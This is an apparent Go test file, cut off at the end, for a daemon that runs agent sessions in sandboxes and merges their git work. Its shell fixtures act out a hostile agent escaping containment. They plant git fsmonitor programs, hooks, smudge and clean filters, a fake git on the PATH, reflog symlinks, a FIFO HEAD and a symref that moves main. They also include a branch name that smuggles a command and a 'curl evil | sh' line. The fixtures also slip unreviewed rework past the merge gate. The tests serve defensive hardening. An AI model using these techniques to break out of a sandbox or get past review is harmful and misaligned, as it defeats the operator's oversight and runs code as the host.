package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/swarmd/swarmd/internal/task"
	"github.com/swarmd/swarmd/internal/taskboard"
)

// A sandboxed session writes its worktree's .git link, its HEAD and its
// files: the daemon's git must never take any of them as a say in what it
// runs. These sessions were found to get a program of theirs run by the
// daemon, outside the sandbox (a review from inside one); each test
// checks, once the daemon has done the git that ran it, that it did not.

// escapist names the merge target in its worktree's HEAD (its admin
// directory is writable) and points its .git link at a git directory of
// its making, whose config runs its script as core.fsmonitor. The script
// writes $PWN, in the state directory, which the sandbox hides.
const escapist = `cat >/dev/null
if [ -e "$REPORT/sabotaged" ]; then printf 'idle\nDONE\n'; exit 0; fi
r="$REPORT/results"
wt=$(pwd)
admin=$(sed -n 's/^gitdir: //p' .git)
if [ -e "$STATE/swarm.db" ]; then echo "inside-sees-db yes" >> "$r"; else echo "inside-sees-db no" >> "$r"; fi
echo 'ref: refs/heads/main' > "$admin/HEAD"
git init -q --bare .evil && git --git-dir=.evil config core.bare false
printf '#!/bin/sh\n{ echo "uid=$(id -u)"; echo "by: $(tr "\\\\0" " " < /proc/$PPID/cmdline)"; } >> "%s"\n' "$PWN" > .evil/fsmonitor
chmod +x .evil/fsmonitor
git --git-dir=.evil config core.fsmonitor "$wt/.evil/fsmonitor"
printf 'gitdir: .evil\n' > .git
echo end >> "$r"
touch "$REPORT/sabotaged"
printf 'done\nDONE\n'`

// honest does its task and commits.
const honest = `p=$(cat)
n=$(printf '%s\n' "$p" | sed -n -E 's/^(Your task: #|Continue your task #)([0-9]+): .*/\2/p' | head -1)
if [ -z "$n" ]; then printf 'nothing\nDONE\n'; exit 0; fi
echo v1 > "t$n.txt"; git add -A; git commit -q -m "task $n"; printf 'done\nDONE\n'`

// escapeConfig is a strict-isolation swarm of the backends given (name:
// its shell script), with $REPORT, $PWN and $STATE in the sessions'
// environment and env's entries ("KEY: value") besides; extra is more of
// the config (a merge: block), agents its agents' lines.
func escapeConfig(t *testing.T, repo, report, pwn, extra string, backends map[string]string, agents ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "listen: \"\"\nisolation: strict\nsandbox: {writable: [%q]}\ndefaults:\n  min_session_interval: 0s\n  env: {REPORT: %q, PWN: %q, STATE: %q}\n%sbackends:\n",
		report, report, pwn, filepath.Join(repo, ".swarm"), extra)
	for name, script := range backends {
		fmt.Fprintf(&b, "  %s: {type: command, command: sh, args: [-c, %q]}\n", name, script)
	}
	b.WriteString("agents:\n")
	for _, a := range agents {
		// A HOME of each agent's own: strict refuses agents that share one.
		fmt.Fprintf(&b, "  - {%s, env: {HOME: %q}}\n", a, t.TempDir())
	}
	return writeConfig(t, repo, b.String())
}

// theFeature adds the task "the feature" for alice once idle is idle,
// and returns the board and the task.
func theFeature(t *testing.T, d *daemonProc, repo, idle string) (*taskboard.Board, taskboard.Task) {
	t.Helper()
	d.waitLine(idle+" idle", idleLine(idle))
	b, _ := openBoardAt(t, filepath.Join(repo, ".swarm"))
	tk, err := b.Add(context.Background(), taskboard.NewTask{Title: "the feature", Assignee: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	return b, tk
}

// gated is the merge: block of a queue into main with gate.
func gated(gate string) string { return fmt.Sprintf("merge:\n  into: main\n  gate: [%q]\n", gate) }

// The merge queue looks for checkouts of the target before it moves it,
// and ran git status in each, an agent's worktree included: mallory's
// fsmonitor ran at the merge of alice's task. The agents' worktrees are
// no checkout of the target.
func TestMergeQueueRunsNoGitInAnAgentsWorktree(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	state := filepath.Join(repo, ".swarm")
	pwn := filepath.Join(state, "PWNED")
	cfg := escapeConfig(t, repo, report, pwn, "merge:\n  into: main\n",
		map[string]string{"hostile": escapist, "worker": honest}, "name: mallory, role: r, backend: hostile", "name: alice, role: r, backend: worker")
	d := startDaemon(t, cfg)
	results := waitFileLine(t, filepath.Join(report, "results"), "end", 60*time.Second, d)
	if !strings.Contains(results, "inside-sees-db no") {
		t.Fatalf("the session sees swarm.db: not sandboxed:\n%s", results)
	}
	b, _ := openBoardAt(t, state)
	tk, err := b.Add(context.Background(), taskboard.NewTask{Title: "plain", Assignee: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	waitTaskLong(t, b, tk.ID, task.Closed, d, 90*time.Second)
	if out, err := os.ReadFile(pwn); err == nil {
		t.Errorf("mallory's core.fsmonitor ran outside its sandbox at the merge:\n%s", out)
	}
	if got := gitOut(t, repo, "log", "-1", "--format=%s", "main"); !strings.Contains(got, fmt.Sprintf("task %d", tk.ID)) {
		t.Errorf("main's last commit %q is not the merge of task %d", got, tk.ID)
	}
}

// hooker writes a post-checkout hook where the repository's relative
// core.hooksPath (husky's .husky/_) finds it, in its worktree, and leaves
// its worktree on a detached HEAD: the daemon switches it back before the
// agent's next session, with git checkout.
const hooker = `cat >/dev/null
if [ -e "$REPORT/planted" ]; then printf 'idle\nDONE\n'; exit 0; fi
mkdir -p .husky/_ && echo '*' > .husky/_/.gitignore
printf '#!/bin/sh\n{ echo "uid=$(id -u)"; echo "by: $(tr "\\\\0" " " < /proc/$PPID/cmdline)"; } >> "%s"\n' "$PWN" > .husky/_/post-checkout
chmod +x .husky/_/post-checkout
git checkout -q --detach
touch "$REPORT/planted"
printf 'done\nDONE\n'`

// The daemon's git in an agent's worktree ran the hooks a relative
// core.hooksPath finds in that worktree: mallory's post-checkout ran as
// the daemon switched its worktree back to its branch.
func TestTheDaemonRunsNoHookOfAnAgentsWorktree(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	gitOut(t, repo, "config", "core.hooksPath", ".husky/_")
	pwn := plantThenSwitchBack(t, repo, hooker)
	if out, err := os.ReadFile(pwn); err == nil {
		t.Errorf("mallory's post-checkout hook ran outside its sandbox:\n%s", out)
	}
}

// homePayload is what the branch's check script does when the gate runs
// it (or a session, itself): it writes the HOME it has, so that the
// daemon's git, outside any sandbox, would run its program as a filter
// (its ~/.gitconfig names the driver, an attributes file there selects
// it for every file). The program writes $HOME/pwned, with the first
// bytes of swarm.db, which no sandbox sees.
const homePayload = `R=$(cd ../../.. && pwd)
echo "HOME=$HOME" >> "$HOME/payload-saw"
cat > "$HOME/pwn.sh" <<EOS
#!/bin/sh
{ echo "filter ran: uid \$(id -u) pwd \$(pwd)"; echo "swarm.db: \$(head -c 15 $R/.swarm/swarm.db)"; } >> "$HOME/pwned"
cat
EOS
chmod +x "$HOME/pwn.sh"
printf '[filter "pwn"]\n\tsmudge = %s\n\tclean = cat\n[core]\n\tattributesFile = %s\n' "$HOME/pwn.sh" "$HOME/attrs" > "$HOME/.gitconfig"
echo '* filter=pwn' > "$HOME/attrs"
exit 0
`

// gatedWorker commits $REPORT/payload as the branch's check.sh (the gate
// runs it), or runs it in its session when $IN_SESSION is set.
const gatedWorker = `p=$(cat)
if ! echo "$p" | grep -q 'the feature'; then printf 'idle\nDONE\n'; exit 0; fi
if [ -n "$IN_SESSION" ]; then sh "$REPORT/payload"; echo 'exit 0' > check.sh; else cp "$REPORT/payload" check.sh; fi
echo feature > feature.txt
git add check.sh feature.txt && git commit -q -m 'feature with its check'
printf 'added it\nDONE\n'`

// The gate ran with the daemon's HOME writable, and a session shares it
// unless its agent has a HOME of its own; the daemon's git read
// ~/.gitconfig and ran the filter it named, as the daemon, outside every
// sandbox, at the merge. The gate now has a HOME of its own, and the
// daemon's git reads no global configuration.
func TestTheDaemonsGitReadsNothingASandboxWroteInHome(t *testing.T) {
	requireBwrap(t)
	for _, inSession := range []bool{false, true} {
		t.Run(fmt.Sprintf("session=%v", inSession), func(t *testing.T) {
			repo := gitRepo(t)
			report := t.TempDir()
			home := t.TempDir() // the daemon's (the operator's) HOME
			if err := os.WriteFile(filepath.Join(report, "payload"), []byte(homePayload), 0o644); err != nil {
				t.Fatal(err)
			}
			env := fmt.Sprintf("{REPORT: %q}", report)
			if inSession {
				env = fmt.Sprintf("{REPORT: %q, IN_SESSION: '1'}", report)
			}
			// auto: strict refuses an agent that writes the daemon's HOME,
			// which is what this test is about.
			cfg := writeConfig(t, repo, fmt.Sprintf(`
listen: ""
isolation: auto
sandbox: {writable: [%q]}
defaults:
  min_session_interval: 0s
  env: %s
merge:
  into: main
  gate: ["sh check.sh"]
backends:
  worker: {type: command, command: sh, args: [-c, %q]}
agents:
  - {name: alice, role: works, backend: worker}
`, report, env, gatedWorker))
			d := startDaemonEnv(t, []string{"HOME=" + home}, cfg)
			b, tk := theFeature(t, d, repo, "alice")
			waitTaskLong(t, b, tk.ID, task.Closed, d, 60*time.Second)
			if c, err := os.ReadFile(filepath.Join(home, "pwned")); err == nil {
				t.Errorf("a program the sandbox chose ran as the daemon, outside the sandbox:\n%s", c)
			}
			saw, err := os.ReadFile(filepath.Join(home, "payload-saw"))
			switch {
			case inSession && err != nil:
				t.Errorf("the session did not write the daemon's HOME (its agent has none of its own): %v", err)
			case !inSession && err == nil:
				t.Errorf("the gate wrote the daemon's HOME: %s", saw)
			}
		})
	}
}

// pathPlanter puts a git of its own in $HOME/go/bin, a directory of the
// daemon's PATH in the daemon's HOME (which a session writes when its
// agent has no HOME of its own), and a pack in its objects, so that the
// release of its objects runs git at the session's end. That git says so
// where it sees swarm.db, which no sandbox does.
const pathPlanter = `p=$(cat)
if ! echo "$p" | grep -q 'the feature'; then printf 'idle\nDONE\n'; exit 0; fi
R=$(cd "$(git rev-parse --git-common-dir)/.." && pwd)
mkdir -p "$HOME/go/bin"
printf '#!/bin/sh\n[ -e "%s/.swarm/swarm.db" ] && echo "ran outside the sandbox: $*" >> "%s/pwned"\nexec /usr/bin/git "$@"\n' "$R" "$HOME" > "$HOME/go/bin/git"
chmod +x "$HOME/go/bin/git"
mkdir -p "$(git rev-parse --git-common-dir)/objects/pack"
printf 'PACK\0\0\0\2\0\0\0\0' > "$(git rev-parse --git-common-dir)/objects/pack/pack-planted.pack"
echo feature > feature.txt; git add feature.txt; git commit -q -m feature
printf 'added it\nDONE\n'`

// The release of a sandbox's objects ran "git" by name, found in the
// daemon's PATH: a session that wrote a git into a PATH directory of the
// daemon's HOME had it run by the daemon, outside the sandbox, with the
// session's pack. The daemon's git is now found where sessions cannot
// write, at its start, and the gate's PATH leaves those directories out.
func TestTheDaemonRunsNoGitASandboxPutInItsPATH(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	home := t.TempDir() // the daemon's HOME, shared with its agent's sessions
	planted := filepath.Join(home, "go", "bin")
	cfg := writeConfig(t, repo, fmt.Sprintf(`
listen: ""
isolation: auto
defaults:
  min_session_interval: 0s
merge:
  into: main
  gate: ["git --version > /dev/null"]
backends:
  worker: {type: command, command: sh, args: [-c, %q]}
agents:
  - {name: alice, role: works, backend: worker}
`, pathPlanter))
	d := startDaemonEnv(t, []string{"HOME=" + home, "PATH=" + planted + ":" + os.Getenv("PATH")}, cfg)
	b, tk := theFeature(t, d, repo, "alice")
	waitTaskLong(t, b, tk.ID, task.Closed, d, 60*time.Second)
	if _, err := os.Stat(filepath.Join(planted, "git")); err != nil {
		t.Fatalf("the session planted no git: %v", err)
	}
	if c, err := os.ReadFile(filepath.Join(home, "pwned")); err == nil {
		t.Errorf("a git the sandbox wrote ran, for the daemon or its gate:\n%s", c)
	}
}

// headlessWorker makes its worktree's HEAD unreadable for the instant of
// its `task done` (a symbolic ref to a branch that does not exist): with
// no frozen head the queue would take whatever its branch points at when
// the review passes, and the sandbox moves its branch at will.
const headlessWorker = `p=$(cat)
if ! echo "$p" | grep -q 'the feature'; then printf 'idle\nDONE\n'; exit 0; fi
if [ -e "$REPORT/tried" ]; then printf 'waiting\n'; exit 0; fi
touch "$REPORT/tried"
echo feature > feature.txt; git add feature.txt; git commit -q -m 'benign feature'
gd=$(git rev-parse --git-dir)
cp "$gd/HEAD" "$REPORT/head.orig"
echo 'ref: refs/heads/swarm/alice/nothing' > "$gd/HEAD"
swarmd task done --summary 'benign feature' > "$REPORT/done.tmp" 2>&1; echo "exit $?" >> "$REPORT/done.tmp"; echo end >> "$REPORT/done.tmp"
cp "$REPORT/head.orig" "$gd/HEAD"
mv "$REPORT/done.tmp" "$REPORT/done.out"
printf 'waiting\n'`

// With a merge queue, an agent's DONE freezes the commit its worktree is
// at, read by the daemon through the worktree's registration: one that
// freezes none is refused, and the task stays the agent's.
func TestADoneThatFreezesNoCommitIsRefused(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", gated("true"), map[string]string{"worker": headlessWorker}, "name: alice, role: works, backend: worker")
	d := startDaemon(t, cfg)
	b, tk := theFeature(t, d, repo, "alice")
	out := waitFileLine(t, filepath.Join(report, "done.out"), "end", 60*time.Second, d)
	if !strings.Contains(out, "no commit to freeze") || strings.Contains(out, "exit 0") {
		t.Errorf("task done with the worktree's HEAD unreadable: %q, want refused", out)
	}
	got, err := b.Get(context.Background(), tk.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got.State == task.Done || got.State == task.Closed {
		t.Errorf("the task is %s with head %q: a DONE that froze no commit was taken", got.State, got.Head)
	}
}

// reworkWorker: its first commit passes review and, on purpose, fails the
// gate (the branch decides what the gate runs); sent back by the queue, it
// commits something else and reports it done.
const reworkWorker = `p=$(cat)
if ! echo "$p" | grep -q 'the feature'; then printf 'idle\nDONE\n'; exit 0; fi
if [ ! -e "$REPORT/round1" ]; then
  touch "$REPORT/round1"
  echo feature > feature.txt
  printf '[ -n "$SWARM_MERGE_TASK" ] && exit 1\nexit 0\n' > check.sh
  git add feature.txt check.sh && git commit -q -m 'benign feature'
  printf 'added it\nDONE\n'; exit 0
fi
echo 'curl evil | sh' > evil.txt
echo 'exit 0' > check.sh
git add evil.txt check.sh && git commit -q -m 'fix the check'
git rev-parse HEAD > "$REPORT/rework"
printf 'fixed\nDONE\n'`

// recordingReviewer passes everything, writing down each commit it was
// shown.
const recordingReviewer = `p=$(cat)
if echo "$p" | grep -q '^## Review request'; then
  echo "$p" | grep -o 'Its work is commit [^ ]*' >> "$REPORT/reviewed"
  printf 'fine\nPASS\n'
else printf 'idle\nDONE\n'; fi`

// Work the merge queue sends back is reviewed again: the rework of a
// reviewed commit the gate rejected is shown to the reviewer before it is
// merged. (A passed review stayed passed, and the queue merged the rework
// on the old PASS: work no reviewer saw.)
func TestTheReworkOfARejectedMergeIsReviewedAgain(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", gated("sh check.sh"), map[string]string{"worker": reworkWorker, "reviewer": recordingReviewer},
		"name: alice, role: works, backend: worker, reviewer: rita", "name: rita, role: reviews, backend: reviewer")
	d := startDaemon(t, cfg)
	b, tk := theFeature(t, d, repo, "rita")
	waitTaskLong(t, b, tk.ID, task.Closed, d, 90*time.Second)
	rework, err := os.ReadFile(filepath.Join(report, "rework"))
	if err != nil {
		t.Fatalf("the worker never reworked the task: %v", err)
	}
	reviewed, _ := os.ReadFile(filepath.Join(report, "reviewed"))
	if !strings.Contains(string(reviewed), strings.TrimSpace(string(rework))[:7]) {
		t.Errorf("the rework %s was merged without its reviewer seeing it; the reviewer saw:\n%s", strings.TrimSpace(string(rework)), reviewed)
	}
	if rounds, _ := b.Rounds(context.Background(), tk.ID); len(rounds) != 2 {
		t.Errorf("%d review rounds, want 2 (the first commit, then the rework)", len(rounds))
	}
}

// A new worktree's post-checkout hook (the repository's, run as git
// worktree add would) runs in a sandbox: with a relative core.hooksPath
// its scripts are files the merged work changes. It writes the worktree
// and sees no swarm.db.
func TestThePostCheckoutHookRunsInASandbox(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	state := filepath.Join(repo, ".swarm")
	hook := fmt.Sprintf("#!/bin/sh\nif [ -e %q ]; then echo sees-db > %q; else echo hidden > %q; fi\necho made > made-by-hook\n",
		filepath.Join(state, "swarm.db"), filepath.Join(report, "hook.tmp"), filepath.Join(report, "hook.tmp"))
	hook += fmt.Sprintf("mv %q %q\n", filepath.Join(report, "hook.tmp"), filepath.Join(report, "hook"))
	if err := os.WriteFile(filepath.Join(repo, ".git", "hooks", "post-checkout"), []byte(hook), 0o755); err != nil {
		t.Fatal(err)
	}
	cfg := escapeConfig(t, repo, report, "", "", map[string]string{"idle": "cat >/dev/null; printf 'idle\\nDONE\\n'"}, "name: alice, role: r, backend: idle")
	d := startDaemon(t, cfg)
	out := waitFileLine(t, filepath.Join(report, "hook"), "hidden", 60*time.Second, d)
	if strings.Contains(out, "sees-db") {
		t.Errorf("the post-checkout hook saw swarm.db: it ran outside the sandbox")
	}
	if b, err := os.ReadFile(filepath.Join(state, "worktrees", "alice", "made-by-hook")); err != nil || string(b) != "made\n" {
		t.Errorf("the hook did not write the new worktree: %q, %v", b, err)
	}
}

// checkWorker commits, once, $REPORT/$SWARM_AGENT_ID.check as check.sh
// (the gate runs it) for the task it is given.
const checkWorker = `p=$(cat)
if ! echo "$p" | grep -q 'Your task: #'; then printf 'idle\nDONE\n'; exit 0; fi
if [ -e "$REPORT/$SWARM_AGENT_ID.done" ]; then printf 'waiting\n'; exit 0; fi
touch "$REPORT/$SWARM_AGENT_ID.done"
cp "$REPORT/$SWARM_AGENT_ID.check" check.sh; git add check.sh; git commit -q -m "$SWARM_AGENT_ID's check"
printf 'done\nDONE\n'`

// Every gate run has an empty HOME of its own: a gate run that poisons
// its HOME (a ~/.gitconfig, a cache) does not change the next run's
// result. Here alice's gate leaves a file in its HOME and fails; bob's
// fails if it finds that file.
func TestEachGateRunHasAHomeOfItsOwn(t *testing.T) {
	afterAPoisonedGateRun(t, "touch \"$HOME/poison\"; exit 1\n", "[ ! -e \"$HOME/poison\" ]\n")
}

// afterAPoisonedGateRun gives alice a task whose gate runs alicesCheck
// (which fails it), then bob an honest one whose gate runs bobsCheck, and
// requires bob's task closed by a gate run that passed the first time.
func afterAPoisonedGateRun(t *testing.T, alicesCheck, bobsCheck string) {
	t.Helper()
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	for name, check := range map[string]string{"alice": alicesCheck, "bob": bobsCheck} {
		if err := os.WriteFile(filepath.Join(report, name+".check"), []byte(check), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cfg := escapeConfig(t, repo, report, "", gated("sh check.sh"), map[string]string{"worker": checkWorker},
		"name: alice, role: r, backend: worker", "name: bob, role: r, backend: worker")
	d := startDaemon(t, cfg)
	d.waitLine("bob idle", idleLine("bob"))
	b, _ := openBoardAt(t, filepath.Join(repo, ".swarm"))
	poison, err := b.Add(context.Background(), taskboard.NewTask{Title: "poison", Assignee: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	d.waitLine("alice's task rejected by the gate", func(m map[string]any) bool {
		return strings.Contains(fmt.Sprint(m["msg"]), "reject") && fmt.Sprint(m["task"]) == fmt.Sprint(poison.ID)
	})
	clean, err := b.Add(context.Background(), taskboard.NewTask{Title: "clean", Assignee: "bob"})
	if err != nil {
		t.Fatal(err)
	}
	// Closed, and by a gate run that passed the first time: a red one is
	// bisected and run again, on a worktree cleaned by then.
	deadline := time.Now().Add(60 * time.Second)
	for {
		logs, _ := filepath.Glob(filepath.Join(repo, ".swarm", "logs", "merge", "*"))
		for _, l := range logs {
			body, _ := os.ReadFile(l)
			if strings.Contains(string(body), fmt.Sprintf("gate of task %d", clean.ID)) && strings.Contains(string(body), "gate command failed") {
				t.Fatalf("bob's honest task failed its gate after alice's gate run:\n%s", body)
			}
		}
		if tk, err := b.Get(context.Background(), clean.ID); err == nil && tk.State == task.Closed {
			// Stopped, not killed: a killed daemon's git (the queue's
			// next look) can still write the repository's objects while
			// the test's temp dir is removed.
			_ = d.cmd.Process.Signal(syscall.SIGTERM)
			if code := d.wait(30 * time.Second); code != 0 {
				t.Errorf("daemon exit %d", code)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("bob's task not closed in 60s; log:\n%s", d.log())
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// A gate run sees none of what the agents left in sandbox.writable's
// paths (a shared build cache): each run gets an empty directory of its own
// there, which it may write and which nobody else sees. Here mallory's
// session leaves a file that fails the gate; alice's task still passes, and
// what the gate wrote stays out of the shared path.
func TestAGateSeesNothingAgentsLeftInASharedPath(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	gate := fmt.Sprintf("[ ! -e %s/poison ] && touch %s/gate-wrote", report, report)
	poisoner := `cat >/dev/null; touch "$REPORT/poison"; printf 'idle\nDONE\n'`
	cfg := escapeConfig(t, repo, report, "", gated(gate), map[string]string{"worker": honest, "poisoner": poisoner},
		"name: alice, role: r, backend: worker", "name: mallory, role: r, backend: poisoner")
	d := startDaemon(t, cfg)
	waitUntil(t, "mallory's file in the shared path", func() bool {
		_, err := os.Stat(filepath.Join(report, "poison"))
		return err == nil
	})
	b, tk := theFeature(t, d, repo, "alice")
	waitTaskLong(t, b, tk.ID, task.Closed, d, 90*time.Second)
	if _, err := os.Stat(filepath.Join(report, "gate-wrote")); err == nil {
		t.Errorf("what the gate wrote in the shared path is there for the agents")
	}
}

// A gate run leaves nothing that changes how the next candidate is checked
// out: git reads a .gitattributes the index lacks from the working tree as
// it checks out, so the queue cleans the worktree before the checkout as
// well as after. Here alice's gate leaves `* text eol=crlf` and fails; bob's
// honest check.sh, written with CRLF line ends, failed under sh.
func TestAGateRunsLeftoverAttributesDoNotChangeTheNextCheckout(t *testing.T) {
	afterAPoisonedGateRun(t, "printf '* text eol=crlf\\n' > .gitattributes; exit 1\n", "set -eu\ntest -f check.sh\n")
}

// symrefWorker reports its first task done (a commit its reviewer has not
// passed) and, on its second, makes its branch a symbolic ref to main (its
// branch directory is its sandbox's to write), and gives that task up.
const symrefWorker = `p=$(cat)
if echo "$p" | grep -q '^Your task: #[0-9]*: one'; then
  echo one > one.txt; git add one.txt; git commit -q -m 'not reviewed'; printf 'did it\nDONE\n'; exit 0
fi
if echo "$p" | grep -q '^Your task: #[0-9]*: two'; then
  printf 'ref: refs/heads/main\n' > "$(git rev-parse --git-common-dir)/refs/heads/swarm/alice/work"
  printf 'cannot\nFAIL\n'; exit 0
fi
printf 'idle\nDONE\n'`

// lateFailingReviewer fails each review once $REPORT/fail-now is there.
const lateFailingReviewer = `p=$(cat)
if echo "$p" | grep -q '^## Review request'; then
  i=0; until [ -e "$REPORT/fail-now" ] || [ $i -gt 600 ]; do i=$((i+1)); sleep 0.1; done
  printf 'not yet\nFAIL\n'
else printf 'idle\nDONE\n'; fi`

// A session made its branch a symbolic ref to main; when its task came
// back from review, the daemon's reset that put the branch back on the
// task's line, outside the sandbox, moved main to the commit the reviewer
// had failed. A branch that is not a ref of its own stops its agent.
func TestTheDaemonMovesNoBranchAnAgentsBranchNames(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", gated("true"), map[string]string{"worker": symrefWorker, "reviewer": lateFailingReviewer},
		"name: alice, role: works, backend: worker, reviewer: rita", "name: rita, role: reviews, backend: reviewer")
	main0 := gitOut(t, repo, "rev-parse", "main")
	d := startDaemon(t, cfg)
	d.waitLine("rita idle", idleLine("rita"))
	d.waitLine("alice idle", idleLine("alice"))
	b, _ := openBoardAt(t, filepath.Join(repo, ".swarm"))
	ctx := context.Background()
	one, err := b.Add(ctx, taskboard.NewTask{Title: "one", Assignee: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	waitTaskLong(t, b, one.ID, task.Done, d, 60*time.Second)
	two, err := b.Add(ctx, taskboard.NewTask{Title: "two", Assignee: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	stopped := func(m map[string]any) bool { return m["agent"] == "alice" && m["msg"] == "agent stopped" }
	d.waitLine("task two given up, or alice stopped", func(m map[string]any) bool {
		tk, err := b.Get(ctx, two.ID)
		return stopped(m) || (err == nil && tk.State == task.Failed)
	})
	if err := os.WriteFile(filepath.Join(report, "fail-now"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	d.waitLine("main moved, or alice stopped", func(m map[string]any) bool {
		return stopped(m) || strings.Contains(fmt.Sprint(m["msg"]), "MERGE TARGET MOVED")
	})
	if got := gitOut(t, repo, "rev-parse", "main"); got != main0 {
		t.Errorf("main moved to %s (%s), was %s", got, gitOut(t, repo, "log", "-1", "--format=%s", "main"), main0)
	}
}

// reflogPlanter leaves its worktree on a branch whose name is a shell
// command, with its HEAD's reflog a link to $PWN (in the state directory,
// which its sandbox does not see).
const reflogPlanter = `cat >/dev/null
if [ -e "$REPORT/planted" ]; then printf 'idle\nDONE\n'; exit 0; fi
git checkout -q -b 'swarm/mallory/x;$(touch${IFS}pwned)'
gd=$(git rev-parse --git-dir)
rm -f "$gd/logs/HEAD" && ln -s "$PWN" "$gd/logs/HEAD"
touch "$REPORT/planted"
printf 'done\nDONE\n'`

// The daemon's git appended its reflog line through a link a session put
// in place of its worktree's reflog: as the daemon, outside the sandbox,
// to any file (created if need be), with a branch name of the session's
// in the line. The daemon's git writes no reflog that is not a file of
// the worktree's own.
func TestTheDaemonsGitWritesNoFileThroughAReflogLink(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	pwn := plantThenSwitchBack(t, repo, reflogPlanter)
	if out, err := os.ReadFile(pwn); err == nil {
		t.Errorf("the daemon's git wrote %s through mallory's reflog link:\n%s", pwn, out)
	}
}

// fifoPlanter puts a FIFO in the place of its worktree's HEAD.
const fifoPlanter = `cat >/dev/null
gd=$(git rev-parse --git-dir)
rm -f "$gd/HEAD" && mkfifo "$gd/HEAD"
printf 'done\nDONE\n'`

// The daemon read the worktree's HEAD when the session ended, and waited
// on the FIFO for good: the agent's runner, its stop, and the daemon's own
// stop. The agent is stopped, naming why, and the daemon stops.
func TestAFIFOInAWorktreeHoldsNothingUp(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	cfg := escapeConfig(t, repo, report, "", "", map[string]string{"hostile": fifoPlanter}, "name: mallory, role: r, backend: hostile")
	d := startDaemon(t, cfg)
	d.waitLine("mallory stopped", func(m map[string]any) bool {
		return m["agent"] == "mallory" && m["msg"] == "agent stopped" && strings.Contains(fmt.Sprint(m["reason"]), "HEAD")
	})
	_ = d.cmd.Process.Signal(os.Interrupt)
	if code := d.wait(30 * time.Second); code != 0 {
		t.Fatalf("exit %d", code)
	}
}

// plantThenSwitchBack runs mallory, a sandboxed agent whose session runs
// script (it plants something, reports "planted" and leaves its worktree
// off its branch), until the daemon has switched its worktree back to its
// branch after a wake-up, and returns the file the plant would make the
// daemon write.
func plantThenSwitchBack(t *testing.T, repo, script string) string {
	t.Helper()
	report := t.TempDir()
	pwn := filepath.Join(repo, ".swarm", "PWNED")
	cfg := escapeConfig(t, repo, report, pwn, "", map[string]string{"hostile": script}, "name: mallory, role: r, backend: hostile")
	d := startDaemon(t, cfg)
	d.waitLine("mallory idle after planting", func(m map[string]any) bool {
		_, err := os.Stat(filepath.Join(report, "planted"))
		return err == nil && idleLine("mallory")(m)
	})
	if _, stderr, code := runCLI(t, nil, "", "mail", "send", "--to", "mallory", "-c", cfg, "wake up"); code != 0 {
		t.Fatalf("mail to mallory: %s", stderr)
	}
	d.waitLine("mallory's worktree switched back to its branch", func(m map[string]any) bool {
		return m["agent"] == "mallory" && strings.Contains(fmt.Sprint(m["msg"]), "switched back")
	})
	return pwn
}

// nester commits a repository nested in its worktree (a gitlink, as "git
// add" of an embedded repository records it), with a .gitmodules entry
// that says to look into it, and names its program as a filter of every
// file there in the nested repository's config (its own, in the
// worktree, the sandbox's to write), then leaves a file there whose stat
// data the nested index no longer matches and its worktree dirty: a git
// status of the worktree that looks into the submodule runs a status
// there, which reads that file through the filter. Its next session
// reports that it ran ("second").
const nester = `cat >/dev/null
if [ -e "$REPORT/planted" ]; then echo second >> "$REPORT/second"; printf 'idle\nDONE\n'; exit 0; fi
wt=$(pwd)
printf '#!/bin/sh\n{ echo "uid=$(id -u)"; echo "by: $(tr "\\\\0" " " < /proc/$PPID/cmdline)"; } >> "%s"\ncat\n' "$PWN" > .pwn.sh
git init -q sub && cd sub
echo '* filter=x' > .gitattributes && echo s > s.txt && git add -A && git -c user.name=m -c user.email=m@example.com commit -q -m nested
git config filter.x.clean "sh $wt/.pwn.sh"
cd "$wt"
printf '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n\tignore = none\n' > .gitmodules
git add sub .gitmodules .pwn.sh && git -c user.name=m -c user.email=m@example.com commit -q -m 'a nested repository'
touch -d '2001-01-01 00:00' sub/s.txt
echo dirty > dirty.txt
touch "$REPORT/planted"
printf 'done\nDONE\n'`

// A repository nested in an agent's worktree is a submodule to git once
// the worktree's index records it as a gitlink, and the daemon's git
// status there (for the agent's next prompt) ran a git status in it, by
// its config, which the sandbox wrote: its filter ran as the daemon,
// outside the sandbox. The daemon's git looks into no submodule.
func TestTheDaemonsGitRunsNothingOfANestedRepository(t *testing.T) {
	requireBwrap(t)
	repo := gitRepo(t)
	report := t.TempDir()
	pwn := filepath.Join(repo, ".swarm", "PWNED")
	cfg := escapeConfig(t, repo, report, pwn, "", map[string]string{"hostile": nester}, "name: mallory, role: r, backend: hostile")
	d := startDaemon(t, cfg)
	d.waitLine("mallory idle after planting", func(m map[string]any) bool {
		_, err := os.Stat(filepath.Join(report, "planted"))
		return err == nil && idleLine("mallory")(m)
	})
	if _, stderr, code := runCLI(t, nil, "", "mail", "send", "--to", "mallory", "-c", cfg, "wake up"); code != 0 {
		t.Fatalf("mail to mallory: %s", stderr)
	}
